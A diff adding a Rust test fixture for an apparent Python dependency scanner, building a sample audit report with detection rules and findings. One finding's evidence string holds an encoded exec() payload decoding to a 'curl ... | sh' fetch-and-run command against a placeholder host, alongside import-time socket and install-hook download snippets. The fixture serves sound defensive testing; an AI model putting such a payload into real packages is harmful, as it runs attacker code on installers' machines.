@@ -1,0 +1,274 @@
+//! A hand-built report for renderer and policy tests: one package per situation a reader meets
+//! (pass, warn, fail on code, suppressed, hash mismatch, metadata-only), plus the policy and the
+//! snapshot filters the tests share.
+#![allow(dead_code)]
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use pyvet::catalog::RuleInfo;
+use pyvet::config::Config;
+use pyvet::finding::{Confidence, Finding, Severity, Verdict};
+use pyvet::hash::{Digest, Hashes};
+use pyvet::metadata::PackageMetadata;
+use pyvet::package::{ArtifactKind, Source};
+use pyvet::report::{
+    ArtifactReport, ArtifactStatus, PackageReport, Report, Summary, Tool, SCHEMA_VERSION,
+};
+
+pub const RULE_IDS: &[&str] = &[
+    "exec-encoded-payload",
+    "network-at-import",
+    "obfuscated-identifiers",
+    "install-hook-download",
+    "hash-mismatch",
+    "release-too-new",
+    "no-source-repository",
+    "dormant-project",
+];
+
+/// A stand-in for the rule catalogue (which other modules fill in), so snapshots do not move
+/// when real rule texts change.
+pub fn test_catalog(id: &str) -> Option<RuleInfo> {
+    let (severity, summary, help): (Severity, &'static str, &'static str) = match id {
+        "exec-encoded-payload" => (Severity::Critical, "Executes a decoded (base64, hex, zlib) payload", "Code that decodes a blob and passes it to exec or eval hides what it runs. Legitimate packages rarely do this."),
+        "network-at-import" => (Severity::High, "Opens a network connection when imported", "Importing a library should not talk to the network."),
+        "obfuscated-identifiers" => (Severity::Low, "Unusually obfuscated identifiers", "Minified or generated code also triggers this."),
+        "install-hook-download" => (Severity::High, "setup.py downloads something at install time", "Install hooks that fetch code run it with the installer's rights."),
+        "hash-mismatch" => (Severity::Critical, "The downloaded file does not match the lockfile hash", "The bytes served differ from those locked: a compromised index, a re-upload, or a broken mirror."),
+        "release-too-new" => (Severity::Medium, "The pinned release is younger than min-release-age", "Most malicious releases are removed within days; waiting lets others find them first."),
+        "no-source-repository" => (Severity::Low, "No source repository is linked", "Without a repository the published code cannot be compared with its source."),
+        "dormant-project" => (Severity::Low, "No release for years, then a new one", "A dormant project that suddenly releases may have changed hands."),
+        _ => return None,
+    };
+    Some(RuleInfo {
+        id: RULE_IDS.iter().find(|r| **r == id)?,
+        severity,
+        summary,
+        help,
+    })
+}
+
+pub fn known_rule(id: &str) -> bool {
+    RULE_IDS.contains(&id)
+}
+
+pub fn ts(s: &str) -> jiff::Timestamp {
+    s.parse().unwrap()
+}
+
+fn sha(c: char) -> String {
+    std::iter::repeat_n(c, 64).collect()
+}
+
+pub fn artifact(filename: &str, status: ArtifactStatus) -> ArtifactReport {
+    ArtifactReport {
+        filename: filename.into(),
+        url: Some(format!("https://example.invalid/files/{filename}")),
+        kind: ArtifactKind::from_filename(filename),
+        expected_hashes: Hashes::from_digest(
+            Digest::parse(&format!("sha256:{}", sha('a'))).unwrap(),
+        ),
+        sha256: Some(sha(if status == ArtifactStatus::HashMismatch {
+            'b'
+        } else {
+            'a'
+        })),
+        status,
+        detail: None,
+    }
+}
+
+pub fn package(name: &str, version: &str, line: u32, findings: Vec<Finding>) -> PackageReport {
+    PackageReport {
+        name: name.into(),
+        version: Some(version.into()),
+        source: Some(Source::Registry {
+            url: Some("https://user:pw@example.invalid/simple/".into()),
+        }),
+        line: Some(line),
+        change: None,
+        artifacts: vec![artifact(
+            &format!("{}-{version}-py3-none-any.whl", name.replace('-', "_")),
+            ArtifactStatus::Verified,
+        )],
+        verdict: Verdict::Pass,
+        findings,
+        metadata: None,
+    }
+}
+
+#[allow(clippy::too_many_arguments)]
+fn code(
+    rule: &str,
+    sev: Severity,
+    pkg: &str,
+    ver: &str,
+    path: &str,
+    line: u32,
+    msg: &str,
+    ev: &str,
+) -> Finding {
+    Finding::new(rule, sev, Confidence::High, msg)
+        .for_package(pkg, Some(ver))
+        .in_artifact(&format!("{}-{ver}-py3-none-any.whl", pkg.replace('-', "_")))
+        .at(path, Some(line))
+        .with_evidence(ev)
+}
+
+fn pkg_level(rule: &str, sev: Severity, pkg: &str, ver: &str, msg: &str) -> Finding {
+    Finding::new(rule, sev, Confidence::Medium, msg).for_package(pkg, Some(ver))
+}
+
+/// The report as the pipeline hands it to policy: verdicts and summary not yet computed.
+pub fn raw_report() -> Report {
+    let mut packages = vec![
+        package("requests", "2.32.3", 3, vec![]),
+        package(
+            "evil-pkg",
+            "1.0.0",
+            5,
+            vec![
+                code(
+                    "obfuscated-identifiers",
+                    Severity::Low,
+                    "evil-pkg",
+                    "1.0.0",
+                    "evil_pkg/_x.py",
+                    1,
+                    "Most identifiers are one or two characters long.",
+                    "O0=lambda l1:l1",
+                ),
+                code(
+                    "exec-encoded-payload",
+                    Severity::Critical,
+                    "evil-pkg",
+                    "1.0.0",
+                    "evil_pkg/__init__.py",
+                    3,
+                    "Decodes a base64 blob and passes it to exec() at import time.",
+                    "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ==\"))\n# decoded: import os; os.system('curl http://example.invalid/x | sh')\n# third line that the table cuts",
+                ),
+                code(
+                    "network-at-import",
+                    Severity::High,
+                    "evil-pkg",
+                    "1.0.0",
+                    "evil_pkg/__init__.py",
+                    7,
+                    "Opens a socket to example.invalid:443 when imported.",
+                    "socket.create_connection((\"example.invalid\", 443))",
+                ),
+            ],
+        ),
+        package(
+            "tinyhelper",
+            "0.0.2",
+            7,
+            vec![
+                pkg_level("release-too-new", Severity::Medium, "tinyhelper", "0.0.2", "Released 2 days ago (min-release-age is 7 days)."),
+                pkg_level("no-source-repository", Severity::Low, "tinyhelper", "0.0.2", "The project links no source repository."),
+            ],
+        ),
+        package(
+            "vetted-tool",
+            "3.1.0",
+            9,
+            vec![code(
+                "install-hook-download",
+                Severity::High,
+                "vetted-tool",
+                "3.1.0",
+                "setup.py",
+                12,
+                "setup.py downloads a file during installation.",
+                "urllib.request.urlretrieve(URL, \"data.bin\")",
+            )],
+        ),
+        package(
+            "mirror-pkg",
+            "1.4.0",
+            11,
+            vec![Finding::new(
+                "hash-mismatch",
+                Severity::Critical,
+                Confidence::High,
+                format!("sha256 of the downloaded file is {} but the lockfile says {}.", sha('b'), sha('a')),
+            )
+            .for_package("mirror-pkg", Some("1.4.0"))
+            .in_artifact("mirror_pkg-1.4.0-py3-none-any.whl")],
+        ),
+        package(
+            "oldlib",
+            "1.0",
+            13,
+            vec![pkg_level("dormant-project", Severity::Low, "oldlib", "1.0", "No release between 2019-03-01 and 2026-11-01.")],
+        ),
+    ];
+    packages[4].artifacts[0].status = ArtifactStatus::HashMismatch;
+    packages[4].artifacts[0].detail = Some("expected sha256 aaaa…, got bbbb…".into());
+    packages[5].metadata = Some(PackageMetadata {
+        upload_time: Some(ts("2026-11-01T08:00:00Z")),
+        first_release: Some(ts("2015-06-01T12:00:00Z")),
+        repository: Some("https://example.invalid/oldlib".into()),
+        owners: vec!["alice".into()],
+        organization: None,
+        yanked: false,
+        yanked_reason: None,
+    });
+    packages[0]
+        .artifacts
+        .push(artifact("requests-2.32.3.tar.gz", ArtifactStatus::Skipped));
+    Report {
+        schema_version: SCHEMA_VERSION,
+        tool: Tool::default(),
+        command: "audit".into(),
+        inputs: vec!["requirements.txt".into()],
+        generated_at: ts("2026-11-20T10:00:00Z"),
+        fail_on: Severity::High,
+        summary: Summary {
+            findings: BTreeMap::new(),
+            ..Summary::default()
+        },
+        packages,
+        notes: vec!["The vulnerability database is 12 days old; run `pyvet db update`.".into()],
+    }
+}
+
+/// The policy the fixture is judged under: vetted-tool's install hook was reviewed.
+pub fn fixture_config() -> Config {
+    let text = r#"
+fail-on = "high"
+
+[[ignore]]
+package = "Vetted_Tool"
+rule = "install-hook-download"
+reason = "Reviewed: downloads its own test data from the project's mirror."
+"#;
+    Config::from_toml(Path::new("pyvet.toml"), text, &known_rule).unwrap()
+}
+
+pub fn now() -> jiff::Timestamp {
+    ts("2026-11-20T10:00:00Z")
+}
+
+/// The report after policy, as renderers receive it.
+pub fn report() -> Report {
+    let mut r = raw_report();
+    pyvet::policy::apply(&mut r, &fixture_config(), now());
+    r
+}
+
+/// Snapshot settings: hide the tool version and timestamps.
+pub fn settings() -> insta::Settings {
+    let mut s = insta::Settings::clone_current();
+    s.set_snapshot_path("snapshots");
+    s.set_prepend_module_to_snapshot(false);
+    s.add_filter(&regex_escape(env!("CARGO_PKG_VERSION")), "[VERSION]");
+    s.add_filter(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z", "[TIME]");
+    s
+}
+
+fn regex_escape(s: &str) -> String {
+    s.replace('.', r"\.")
+}
